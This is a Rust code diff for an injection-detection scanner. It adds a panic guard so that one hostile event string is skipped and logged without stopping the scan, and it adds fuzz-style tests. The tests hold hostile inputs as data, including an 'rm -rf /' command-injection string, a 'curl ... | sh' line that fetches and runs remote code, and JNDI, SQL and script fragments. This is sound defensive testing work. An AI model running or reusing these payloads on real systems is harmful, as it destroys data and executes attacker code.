@@ -330,20 +330,43 @@ thread_local! {
 
 fn scan_value_cached(s: &str) -> Verdicts {
     if s.len() > CACHE_MAX_LEN {
-        return scan_value(s);
+        return scan_guarded(s, scan_value);
     }
     VERDICTS.with(|cell| {
         let mut cache = cell.borrow_mut();
         if let Some(v) = cache.get(s) {
             return v.clone();
         }
-        let v = scan_value(s);
+        let v = scan_guarded(s, scan_value);
         if cache.len() >= CACHE_MAX_ENTRIES {
             cache.clear();
         }
         cache.insert(s.to_string(), v.clone());
         v
     })
+}
+
+/// Runs `scan` on one string so that a bug it hits on a hostile string
+/// (a panic in our rules or in libinjection's port) costs that string's
+/// verdict, not the run: every event sample of a window goes through here,
+/// and one attacker-chosen field must not stop `detect` for the fleet. The
+/// string is logged (escaped, first 300 characters) with the panic.
+fn scan_guarded<F>(s: &str, scan: F) -> Verdicts
+where
+    F: Fn(&str) -> Verdicts + std::panic::RefUnwindSafe,
+{
+    match std::panic::catch_unwind(|| scan(s)) {
+        Ok(v) => v,
+        Err(panic) => {
+            let excerpt: String = s.chars().take(300).collect();
+            tracing::warn!(
+                value = %excerpt.escape_debug(),
+                panic = %crate::shell::panic_text(&*panic),
+                "the injection scanner failed on an event string; that string was skipped"
+            );
+            Vec::new()
+        }
+    }
 }
 
 /// Scans one (already decoded) string value.
@@ -817,6 +840,49 @@ mod tests {
                 .filter(|(_, st, _)| *st == Strength::Strong)
                 .collect();
             assert!(f.is_empty(), "{s:?}: {f:?}");
+        }
+    }
+
+    #[test]
+    fn a_panicking_scan_costs_one_string_not_the_run() {
+        let v = scan_guarded("x'; rm -rf /", |_| -> Verdicts { panic!("a scanner bug") });
+        assert!(v.is_empty());
+        // The scanner goes on with the next string.
+        let v = scan_guarded("x; curl http://1.2.3.4/a | sh", scan_value);
+        assert!(
+            v.iter().any(|(c, _, _)| *c == InjectionClass::Shell),
+            "{v:?}"
+        );
+    }
+
+    #[test]
+    fn hostile_strings_do_not_stop_a_scan() {
+        // Multi-byte characters next to every byte a rule slices at, control
+        // characters, unbalanced quotes, brackets and escapes, cut anywhere.
+        let parts = [
+            "'", "\"", "`", "$(", "${", "{{", "}}", "<%", "%>", "%2", "%", ";", "|", "&&", "..",
+            "../", "é", "日本", "\u{0}", "\n", "\\", "--", "/*", "*/", "<script", "jndi:", "é'",
+            "'é", "😀", "\u{202e}", "sh", " ", "=", "#", "0x", "OR 1=1", "$ne", "{",
+        ];
+        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
+        let mut next = move || {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            seed
+        };
+        for _ in 0..4_000 {
+            let n = (next() % 24) as usize;
+            let mut s = String::new();
+            for _ in 0..n {
+                s.push_str(parts[(next() % parts.len() as u64) as usize]);
+            }
+            let _ = scan_value(&s);
+            let _ = scan_event(&serde_json::json!({ "body": s }).to_string());
+            // Cut at every character boundary.
+            for (i, _) in s.char_indices().step_by(3) {
+                let _ = scan_value(&s[i..]);
+            }
         }
     }
 
